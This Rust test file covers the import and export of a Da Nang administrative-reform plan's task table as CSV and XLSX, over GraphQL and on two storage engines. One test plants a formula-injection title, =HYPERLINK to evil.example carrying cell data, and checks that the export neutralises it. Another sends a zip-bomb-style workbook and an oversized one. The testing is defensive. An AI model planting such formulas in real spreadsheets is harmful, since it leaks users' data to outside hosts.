//! Importing a plan's task table from csv and xlsx, and exporting it back, on both
//! engines: the sample plan in `tests/data`, bad rows, re-imports, amendments, merged
//! cells, and the export → import round trip.

use std::collections::BTreeMap;

use chrono::{NaiveDate, TimeZone, Utc};
use reform_cli::demo::load_demo;
use reform_commands::CommandHandler;
use reform_domain::{
    AgencyId, Command, CrossCutting, Deadline, DocumentHeader, DocumentId, Period, Pillar, Role,
    TaskCategory, World,
};
use reform_interchange::{
    export_plan, import_plan, load_plan_world, resolve_plan, Column, Format, ImportOptions,
    ImportReport,
};
use reform_store::{Actor, CommandMetadata};

use crate::support::api::ApiServer;
use crate::support::stores::{on_both_engines, TestStore};

const SAMPLE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../tests/data/ke-hoach-cchc-2024-da-nang.csv"
);
const PLAN: &str = "318/KH-UBND";

on_both_engines!(
    the_sample_plan_imports_whole_and_again_changes_nothing,
    a_bad_row_means_nothing_is_imported_and_every_bad_row_is_listed,
    changed_rows_become_amendments_and_reassignments,
    an_xlsx_with_merged_cells_and_bare_headings_reads_like_its_csv,
    an_exported_plan_imports_into_an_empty_plan_as_the_same_tasks,
    the_secretariat_imports_and_exports_a_plan_table_over_graphql,
    hostile_workbooks_are_refused_over_graphql_and_the_server_lives,
);

fn sample() -> String {
    std::fs::read_to_string(SAMPLE).expect("the sample plan")
}

fn secretariat() -> CommandMetadata {
    let actor = Actor {
        user_id: "tran.thi.b".into(),
        display_name: "Trần Thị B".into(),
        role: Role::Secretariat,
        agency: None,
    };
    CommandMetadata::new(
        actor,
        Utc.with_ymd_and_hms(2024, 1, 5, 9, 0, 0)
            .single()
            .expect("valid time"),
    )
}

fn options(partial: bool) -> ImportOptions {
    ImportOptions {
        partial,
        reason: "Kế hoạch 318/KH-UBND sửa đổi ngày 02/4/2024".into(),
    }
}

async fn demo(t: &TestStore) -> (CommandHandler, DocumentId) {
    let handler = CommandHandler::new(t.store.clone());
    load_demo(&handler).await.expect("demo");
    let plan = resolve_plan(&handler, PLAN).await.expect("the 2024 plan");
    (handler, plan)
}

async fn import(
    handler: &CommandHandler,
    plan: DocumentId,
    bytes: &[u8],
    format: Format,
    partial: bool,
) -> ImportReport {
    import_plan(
        handler,
        plan,
        bytes,
        format,
        &options(partial),
        &secretariat(),
        false,
    )
    .await
    .expect("the import runs")
}

/// The plan's tasks by STT.
async fn tasks(
    handler: &CommandHandler,
    plan: DocumentId,
) -> (World, BTreeMap<String, reform_domain::Task>) {
    let world = load_plan_world(handler, plan).await.expect("plan world");
    let by_reference = world
        .tasks
        .values()
        .filter(|t| t.plan == plan)
        .map(|t| (t.reference.clone().unwrap_or_default(), t.clone()))
        .collect();
    (world, by_reference)
}

fn date(y: i32, m: u32, d: u32) -> Deadline {
    Deadline::On(NaiveDate::from_ymd_opt(y, m, d).expect("date"))
}

fn agency_named(world: &World, name: &str) -> AgencyId {
    world
        .agencies
        .values()
        .find(|a| a.name == name)
        .map(|a| a.id)
        .unwrap_or_else(|| panic!("{name} is registered"))
}

async fn the_sample_plan_imports_whole_and_again_changes_nothing(t: TestStore) {
    let (handler, plan) = demo(&t).await;
    let before = t.store.head().await.expect("head");
    let report = import(&handler, plan, sample().as_bytes(), Format::Csv, false).await;
    assert!(report.errors.is_empty(), "{:#?}", report.errors);
    assert!(report.written);
    assert_eq!(
        (
            report.header_row,
            report.task_rows,
            report.headings,
            report.created
        ),
        (5, 38, 1, 37),
        "{report:#?}"
    );
    // Collective coordinators are reported once each, with their rows; a note is ignored.
    let warnings: Vec<String> = report.warnings.iter().map(ToString::to_string).collect();
    assert_eq!(warnings.len(), 3, "{warnings:#?}");
    assert!(
        warnings[0].contains("\"Các sở, ban, ngành\" (rows 9, 10, 16"),
        "{warnings:#?}"
    );
    assert!(warnings[2].starts_with("row 55: ignored"), "{warnings:#?}");
    let after = t.store.head().await.expect("head");
    assert_eq!(after - before, 37, "one event per task, written together");

    let (world, tasks) = tasks(&handler, plan).await;
    assert_eq!(tasks.len(), 37);
    let so_tu_phap = agency_named(&world, "Sở Tư pháp thành phố Đà Nẵng");
    let vp = agency_named(&world, "Văn phòng UBND thành phố Đà Nẵng");
    // "sở tư pháp" in lower case, and the section's numeral in the key.
    let vbqppl = &tasks["II.1"];
    assert_eq!(vbqppl.lead, so_tu_phap);
    assert_eq!(vbqppl.coordinators, vec![vp]);
    assert_eq!(vbqppl.category, TaskCategory::Pillar(Pillar::Institutional));
    assert_eq!(vbqppl.deadline, date(2024, 12, 31), "Năm 2024");
    // Sub-rows are subtasks; the heading "4" over 4.1 and 4.2 is not a task.
    assert_eq!(tasks["III.1.1"].parent_task, Some(tasks["III.1"].id));
    assert!(!tasks.contains_key("I.4"));
    assert_eq!(tasks["I.4.1"].parent_task, None);
    assert_eq!(
        tasks["I.4.1"].category,
        TaskCategory::CrossCutting(CrossCutting::Direction)
    );
    // Deadlines as written.
    for (reference, deadline) in [
        ("I.1", date(2024, 1, 31)),    // Tháng 1/2024
        ("I.2", date(2024, 12, 31)),   // Quý IV/2024
        ("I.3", Deadline::Ongoing),    // Thường xuyên
        ("I.4.1", date(2024, 3, 31)),  // Trước ngày 31/3/2024
        ("III.1", date(2024, 6, 30)),  // 30/6/2024
        ("III.3", Deadline::Ongoing),  // Hằng quý
        ("IV.4", date(2024, 9, 30)),   // 9 tháng đầu năm (the plan's year)
        ("VII.3", date(2024, 12, 31)), // 6 tháng cuối năm
    ] {
        assert_eq!(tasks[reference].deadline, deadline, "{reference}");
    }
    // Collective names are not coordinators; several names in one cell are.
    assert!(tasks["I.2"].coordinators.is_empty());
    assert_eq!(tasks["VIII.3"].coordinators.len(), 3);

    // Again: nothing changes, nothing is written.
    let again = import(&handler, plan, sample().as_bytes(), Format::Csv, false).await;
    assert_eq!((again.created, again.amended, again.unchanged), (0, 0, 37));
    assert!(!again.written);
    assert_eq!(t.store.head().await.expect("head"), after);
}

async fn a_bad_row_means_nothing_is_imported_and_every_bad_row_is_listed(t: TestStore) {
    let (handler, plan) = demo(&t).await;
    let bad = sample()
        // An agency misspelt (row 15), a deadline that is none (row 16), no output
        // (row 17), and a number used twice in its section (row 18).
        .replace(
            "1,\"Xây dựng, ban hành văn bản quy phạm pháp luật theo Chương trình công tác năm 2024 của UBND thành phố\",sở tư pháp",
            "1,\"Xây dựng, ban hành văn bản quy phạm pháp luật theo Chương trình công tác năm 2024 của UBND thành phố\",Sở Tư phap Đà Nẵg",
        )
        .replace("Quý II/2024,\"Danh mục văn bản", "Sớm,\"Danh mục văn bản")
        .replace("Quý III/2024,Báo cáo kết quả kiểm tra\n", "Quý III/2024,\n")
        .replace("4,Theo dõi tình hình thi hành", "3,Theo dõi tình hình thi hành");
    let before = t.store.head().await.expect("head");
    let report = import(&handler, plan, bad.as_bytes(), Format::Csv, false).await;
    assert!(!report.written);
    assert_eq!(
        t.store.head().await.expect("head"),
        before,
        "nothing written"
    );
    let found: Vec<(usize, Option<Column>)> =
        report.errors.iter().map(|p| (p.row, p.column)).collect();
    assert_eq!(
        found,
        vec![
            (15, Some(Column::Lead)),
            (16, Some(Column::Deadline)),
            (17, Some(Column::Output)),
            (18, Some(Column::Number)),
        ],
        "{:#?}",
        report.errors
    );
    let misspelt = &report.errors[0];
    assert!(misspelt.message.contains("Sở Tư phap Đà Nẵg"), "{misspelt}");
    assert_eq!(
        misspelt.suggestions.first().map(String::as_str),
        Some("Sở Tư pháp thành phố Đà Nẵng"),
        "{misspelt}"
    );
    assert!(
        report.errors[1].message.contains("Quý II/2024"),
        "the accepted forms"
    );
    assert!(
        report.errors[3].message.contains("row 17"),
        "{}",
        report.errors[3]
    );

    // --partial: the valid rows go in, the four bad ones are left out.
    let partial = import(&handler, plan, bad.as_bytes(), Format::Csv, true).await;
    assert!(partial.written);
    assert_eq!((partial.created, partial.skipped), (33, 4), "{partial:#?}");
    // The corrected file then adds just what was missing.
    let fixed = import(&handler, plan, sample().as_bytes(), Format::Csv, false).await;
    assert_eq!((fixed.created, fixed.unchanged), (4, 33), "{fixed:#?}");
}

async fn changed_rows_become_amendments_and_reassignments(t: TestStore) {
    let (handler, plan) = demo(&t).await;
    import(&handler, plan, sample().as_bytes(), Format::Csv, false).await;
    let amended = sample()
        // A later deadline, a new title, another lead, one more coordinator.
        .replace(
            "Tháng 1/2024,Kế hoạch kiểm tra",
            "Tháng 2/2024,Kế hoạch kiểm tra",
        )
        .replace(
            "Tổ chức Hội thi tìm hiểu về cải cách hành chính",
            "Tổ chức Hội thi trực tuyến tìm hiểu về cải cách hành chính",
        )
        .replace(
            "Đẩy mạnh giải ngân vốn đầu tư công năm 2024,Sở Kế hoạch và Đầu tư,Sở Tài chính",
            "Đẩy mạnh giải ngân vốn đầu tư công năm 2024,Sở Tài chính,Sở Kế hoạch và Đầu tư",
        )
        .replace(
            "Sở Thông tin và Truyền thông,Sở Khoa học và Công nghệ,Năm 2024",
            "Sở Thông tin và Truyền thông,\"Sở Khoa học và Công nghệ, Công an thành phố\",Năm 2024",
        );
    let before = t.store.head().await.expect("head");
    let report = import(&handler, plan, amended.as_bytes(), Format::Csv, false).await;
    assert!(report.errors.is_empty(), "{:#?}", report.errors);
    assert_eq!(
        (report.created, report.amended, report.unchanged),
        (0, 4, 33)
    );
    let events = t.store.read_all(before, 100).await.expect("read");
    let types: Vec<&str> = events.iter().map(|e| e.event_type.as_str()).collect();
    assert_eq!(
        types,
        vec![
            "TaskAmended",
            "TaskReassigned",
            "TaskAmended",
            "TaskAmended"
        ],
        "in table order"
    );
    assert!(events.iter().all(
        |e| e.metadata.reason.as_deref() == Some("Kế hoạch 318/KH-UBND sửa đổi ngày 02/4/2024")
    ));
    let (world, tasks) = tasks(&handler, plan).await;
    assert_eq!(tasks["I.1"].deadline, date(2024, 2, 29));
    assert_eq!(tasks["I.1"].original_deadline, date(2024, 1, 31));
    assert_eq!(
        tasks["VI.3"].lead,
        agency_named(&world, "Sở Tài chính thành phố Đà Nẵng")
    );
    assert_eq!(tasks["VII.5"].coordinators.len(), 2);
    // And the changed file is now the plan: importing it again changes nothing.
    let again = import(&handler, plan, amended.as_bytes(), Format::Csv, false).await;
    assert_eq!((again.amended, again.unchanged), (0, 37));
}

/// A workbook as spreadsheets have them: a title, headings without diacritics, a
/// blank line, section rows merged across the table, a lead merged down over two
/// sub-rows, and a deadline typed as an Excel date.
fn merged_workbook() -> Vec<u8> {
    use rust_xlsxwriter::{ExcelDateTime, Format as Style, Workbook};
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    let plain = Style::new();
    let date = Style::new().set_num_format("dd/mm/yyyy");
    let write = |sheet: &mut rust_xlsxwriter::Worksheet, r: u32, cells: &[&str]| {
        for (c, text) in cells.iter().enumerate() {
            if !text.is_empty() {
                sheet
                    .write_string(r, u16::try_from(c).expect("column"), *text)
                    .expect("cell");
            }
        }
    };
    sheet
        .merge_range(0, 0, 0, 5, "DANH MỤC NHIỆM VỤ NĂM 2024", &plain)
        .expect("title");
    write(
        sheet,
        2,
        &[
            "TT",
            "Noi dung nhiem vu",
            "Don vi chu tri",
            "Don vi phoi hop",
            "Thoi han hoan thanh",
            "San pham",
        ],
    );
    sheet
        .merge_range(3, 0, 3, 5, "II. CẢI CÁCH THỦ TỤC HÀNH CHÍNH", &plain)
        .expect("section");
    write(
        sheet,
        4,
        &[
            "1",
            "Rà soát thủ tục hành chính",
            "Văn phòng UBND thành phố",
            "Sở Tư pháp; Sở Nội vụ",
            "",
            "Báo cáo rà soát",
        ],
    );
    sheet
        .write_datetime_with_format(
            4,
            4,
            ExcelDateTime::from_ymd(2024, 6, 30).expect("date"),
            &date,
        )
        .expect("date cell");
    // Row 6 is blank, as tables often have.
    write(
        sheet,
        6,
        &[
            "1.1",
            "Rà soát lĩnh vực y tế",
            "",
            "",
            "Tháng 5/2024",
            "Báo cáo lĩnh vực y tế",
        ],
    );
    write(
        sheet,
        7,
        &[
            "1.2",
            "Rà soát lĩnh vực giáo dục",
            "",
            "",
            "Quý II/2024",
            "Báo cáo lĩnh vực giáo dục",
        ],
    );
    sheet
        .merge_range(6, 2, 7, 2, "Sở Y tế", &plain)
        .expect("lead merged down");
    workbook.save_to_buffer().expect("workbook")
}

async fn an_xlsx_with_merged_cells_and_bare_headings_reads_like_its_csv(t: TestStore) {
    let (handler, plan) = demo(&t).await;
    let report = import(&handler, plan, &merged_workbook(), Format::Xlsx, false).await;
    assert!(report.errors.is_empty(), "{:#?}", report.errors);
    assert_eq!((report.header_row, report.created), (3, 3), "{report:#?}");
    let (world, tasks) = tasks(&handler, plan).await;
    let so_y_te = agency_named(&world, "Sở Y tế thành phố Đà Nẵng");
    assert_eq!(tasks["II.1"].deadline, date(2024, 6, 30), "an Excel date");
    assert_eq!(tasks["II.1"].coordinators.len(), 2);
    assert_eq!(
        tasks["II.1"].category,
        TaskCategory::Pillar(Pillar::AdministrativeProcedures)
    );
    for sub in ["II.1.1", "II.1.2"] {
        assert_eq!(tasks[sub].lead, so_y_te, "{sub}: the merged lead");
        assert_eq!(tasks[sub].parent_task, Some(tasks["II.1"].id));
    }
    assert_eq!(tasks["II.1.2"].deadline, date(2024, 6, 30));
}

async fn an_exported_plan_imports_into_an_empty_plan_as_the_same_tasks(t: TestStore) {
    let (handler, plan) = demo(&t).await;
    import(&handler, plan, sample().as_bytes(), Format::Csv, false).await;
    let (world, _) = tasks(&handler, plan).await;
    // A second, empty plan of the same city.
    let copy = DocumentId::generate();
    let source = &world.documents[&plan];
    let reform_domain::DocumentKind::Plan {
        implements,
        issuing_agency,
        ..
    } = source.kind
    else {
        panic!("318/KH-UBND is a plan");
    };
    handler
        .execute(
            Command::IssuePlan {
                document_id: copy,
                header: DocumentHeader {
                    number: "319/KH-UBND".into(),
                    ..source.header.clone()
                },
                implements,
                issuing_agency,
                jurisdiction: source.jurisdiction.clone(),
                period: Period {
                    from_year: 2024,
                    to_year: 2024,
                },
            },
            secretariat(),
            None,
        )
        .await
        .expect("the copy's plan");
    for format in [Format::Xlsx, Format::Csv] {
        let file = export_plan(&handler, plan, format, &Default::default())
            .await
            .expect("export");
        // Into the plan it came from: the ids in the file match, nothing changes.
        let same = import(&handler, plan, &file, format, false).await;
        assert_eq!(
            (same.created, same.unchanged),
            (0, 37),
            "{format:?}: {same:#?}"
        );
        // Into the empty plan: the same tasks, once.
        let copied = import(&handler, copy, &file, format, false).await;
        assert!(copied.errors.is_empty(), "{format:?}: {:#?}", copied.errors);
        let expected = if format == Format::Xlsx { 37 } else { 0 };
        assert_eq!(copied.created, expected, "{format:?}: {copied:#?}");
    }
    let (_, original) = tasks(&handler, plan).await;
    let (_, copied) = tasks(&handler, copy).await;
    let shape = |tasks: &BTreeMap<String, reform_domain::Task>| -> Vec<String> {
        tasks
            .iter()
            .map(|(reference, t)| {
                format!(
                    "{reference} {} | {:?} | {:?} | {:?} | {:?} | {} | parent {:?}",
                    t.title,
                    t.lead,
                    t.coordinators,
                    t.deadline,
                    t.category,
                    t.expected_output,
                    t.parent_task.map(|p| tasks
                        .values()
                        .find(|x| x.id == p)
                        .and_then(|x| x.reference.clone())),
                )
            })
            .collect()
    };
    assert_eq!(shape(&copied), shape(&original));
}

const IMPORT: &str = r#"mutation($input: ImportPlanTableInput!) {
  importPlanTable(input: $input) {
    clientMutationId
    report { headerRow numberedRows headings created amended unchanged written
             warnings { row column message } errors { row number column message suggestions } }
    plan { number tasks { title } }
  }
}"#;

/// The sample plan's global id, as a client finds it.
async fn plan_global_id(api: &ApiServer, token: &str) -> serde_json::Value {
    let plans = api
        .ok(
            token,
            "{ programs { plans { id number } } }",
            serde_json::json!({}),
        )
        .await;
    plans["programs"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|p| p["plans"].as_array().cloned().unwrap_or_default())
        .find(|p| p["number"] == PLAN)
        .map(|p| p["id"].clone())
        .expect("the 2024 plan")
}

async fn the_secretariat_imports_and_exports_a_plan_table_over_graphql(t: TestStore) {
    use base64::Engine as _;
    let (handler, _) = demo(&t).await;
    drop(handler);
    let api = ApiServer::start(&t, reform_gateway::Options::default()).await;
    let secretariat = api.token(Role::Secretariat, "tran.thi.b", None);
    let plan_id = plan_global_id(&api, &secretariat).await;
    let encode = |text: &str| base64::engine::general_purpose::STANDARD.encode(text.as_bytes());
    let input = |content: String, dry_run: bool| {
        serde_json::json!({ "input": {
            "planId": plan_id, "content": content, "fileName": "ke-hoach.csv",
            "dryRun": dry_run, "reason": "Nhập bảng nhiệm vụ", "clientMutationId": "nhap-1"
        }})
    };

    // An officer may not; a bad row fails with every problem listed, nothing written.
    let officer = api.token(Role::Officer, "can.bo", Some(AgencyId::generate()));
    let (code, _) = api
        .error(&officer, IMPORT, input(encode(&sample()), false))
        .await;
    assert_eq!(code, "FORBIDDEN");
    let bad = sample().replace("Quý II/2024,\"Danh mục", "Sớm,\"Danh mục");
    let (code, error) = api
        .error(&secretariat, IMPORT, input(encode(&bad), false))
        .await;
    assert_eq!(code, "BAD_USER_INPUT", "{error}");
    assert_eq!(error["extensions"]["field"], "content");
    let problems = error["extensions"]["problems"]
        .as_array()
        .expect("problems");
    assert_eq!(problems.len(), 1, "{error}");
    assert_eq!(problems[0]["row"], 16);
    assert_eq!(problems[0]["column"], "Thời gian hoàn thành");
    let (code, error) = api
        .error(&secretariat, IMPORT, input("not base64!".into(), false))
        .await;
    assert_eq!(
        (code.as_str(), &error["extensions"]["field"]),
        ("BAD_USER_INPUT", &serde_json::json!("content"))
    );
    let (code, error) = api
        .error(
            &secretariat,
            IMPORT,
            input(encode("just,some\ncells,here\n"), false),
        )
        .await;
    assert_eq!(code, "BAD_USER_INPUT");
    assert!(
        error["message"]
            .as_str()
            .unwrap_or("")
            .contains("no sheet has a task table header"),
        "{error}"
    );

    // A dry run reports and writes nothing; the import writes and answers from the
    // read-model that includes it.
    let dry = api
        .ok(&secretariat, IMPORT, input(encode(&sample()), true))
        .await;
    let report = &dry["importPlanTable"]["report"];
    assert_eq!(
        (report["created"].as_u64(), report["written"].as_bool()),
        (Some(37), Some(false))
    );
    assert_eq!(
        dry["importPlanTable"]["plan"]["tasks"]
            .as_array()
            .map(Vec::len),
        Some(0)
    );
    let done = api
        .ok(&secretariat, IMPORT, input(encode(&sample()), false))
        .await;
    let payload = &done["importPlanTable"];
    assert_eq!(payload["clientMutationId"], "nhap-1");
    assert_eq!(payload["report"]["headerRow"], 5);
    assert_eq!(payload["report"]["headings"], 1);
    assert_eq!(
        payload["report"]["warnings"].as_array().map(Vec::len),
        Some(3)
    );
    assert_eq!(payload["report"]["written"], true);
    // Top-level tasks only: 37 less the two sub-rows of III.1.
    assert_eq!(
        payload["plan"]["tasks"].as_array().map(Vec::len),
        Some(35),
        "{payload}"
    );

    // A title that a spreadsheet would run as a formula is exported as text.
    let lead = api
        .ok(
            &secretariat,
            "query($id: ID!) { node(id: $id) { ... on Plan { tasks { lead { id } } } } }",
            serde_json::json!({ "id": plan_id }),
        )
        .await["node"]["tasks"][0]["lead"]["id"]
        .clone();
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Báo cáo")"#;
    api.ok(
        &secretariat,
        r#"mutation($input: CreateTaskInput!) { createTask(input: $input) { version } }"#,
        serde_json::json!({ "input": {
            "planId": plan_id, "category": "INSTITUTIONAL", "title": formula, "leadId": lead,
            "deadline": "2024-12-31", "expectedOutput": "Báo cáo"
        }}),
    )
    .await;

    // The table comes back as a workbook and as csv, both importable unchanged.
    let query = r#"query($id: ID!, $format: TableFormat!) {
      node(id: $id) { ... on Plan { taskTable(format: $format) { fileName contentType content } } }
    }"#;
    for (format, name) in [
        ("XLSX", "ke-hoach-318-KH-UBND.xlsx"),
        ("CSV", "ke-hoach-318-KH-UBND.csv"),
    ] {
        let data = api
            .ok(
                &secretariat,
                query,
                serde_json::json!({ "id": plan_id, "format": format }),
            )
            .await;
        let file = &data["node"]["taskTable"];
        assert_eq!(file["fileName"], name);
        let content = file["content"].as_str().expect("content").to_owned();
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(&content)
            .expect("base64");
        if format == "XLSX" {
            assert!(bytes.starts_with(b"PK"), "a zip archive");
        } else {
            let text = String::from_utf8(bytes).expect("UTF-8");
            assert!(
                text.starts_with("\u{feff}Kế hoạch số 318/KH-UBND"),
                "{text}"
            );
            assert!(text.contains("\"'=HYPERLINK("), "neutralised: {text}");
            assert!(
                !text.contains(",\"=HYPERLINK("),
                "never a live formula: {text}"
            );
        }
        let again = api
            .ok(
                &secretariat,
                IMPORT,
                serde_json::json!({ "input": {
                    "planId": plan_id, "content": content, "format": format,
                    "reason": "Nhập lại"
                }}),
            )
            .await;
        let report = &again["importPlanTable"]["report"];
        assert_eq!(
            (report["unchanged"].as_u64(), report["written"].as_bool()),
            (Some(38), Some(false)),
            "{report}"
        );
    }
    api.stop().await;
}

/// A workbook that would be half a terabyte as a dense range, and one that inflates to
/// 35 MB, sent as dry runs and for real: each is a typed BAD_USER_INPUT naming the
/// limit, the server answers afterwards, and nothing was written.
async fn hostile_workbooks_are_refused_over_graphql_and_the_server_lives(t: TestStore) {
    use base64::Engine as _;
    use reform_devtools::hostile::{far_cell_workbook, inflating_workbook};
    let (handler, _) = demo(&t).await;
    let head = handler.store().head().await.expect("head");
    drop(handler);
    let api = ApiServer::start(&t, reform_gateway::Options::default()).await;
    let secretariat = api.token(Role::Secretariat, "tran.thi.b", None);
    let plan_id = plan_global_id(&api, &secretariat).await;
    let (far_cell, inflating) = (
        far_cell_workbook().expect("the workbook"),
        inflating_workbook().expect("the workbook"),
    );
    assert!(
        far_cell.len() < 8 * 1024,
        "small on the wire: {}",
        far_cell.len()
    );
    let limit = reform_interchange::limits::FILE_BYTES;
    assert!(
        inflating.len() < limit,
        "under the upload limit: {}",
        inflating.len()
    );
    let cases = [
        (far_cell, "cell XFD1048576", "5000 rows × 50 columns"),
        (inflating, "inflates to more than 32 MiB", "32 MiB"),
    ];
    for (bytes, what, limit) in &cases {
        for dry_run in [true, false] {
            let content = base64::engine::general_purpose::STANDARD.encode(bytes);
            let (code, error) = api
                .error(
                    &secretariat,
                    IMPORT,
                    serde_json::json!({ "input": {
                        "planId": plan_id, "content": content, "fileName": "ke-hoach.xlsx",
                        "dryRun": dry_run, "reason": "Nhập bảng nhiệm vụ"
                    }}),
                )
                .await;
            assert_eq!(code, "BAD_USER_INPUT", "{error}");
            let message = error["message"].as_str().unwrap_or_default();
            assert!(
                message.contains(what) && message.contains(limit),
                "names the cause and the limit: {error}"
            );
        }
    }
    let alive = api
        .ok(&secretariat, "{ viewer { name } }", serde_json::json!({}))
        .await;
    assert_eq!(alive["viewer"]["name"], "tran.thi.b");
    assert_eq!(
        t.store.head().await.expect("head"),
        head,
        "nothing was written"
    );
    api.stop().await;
}
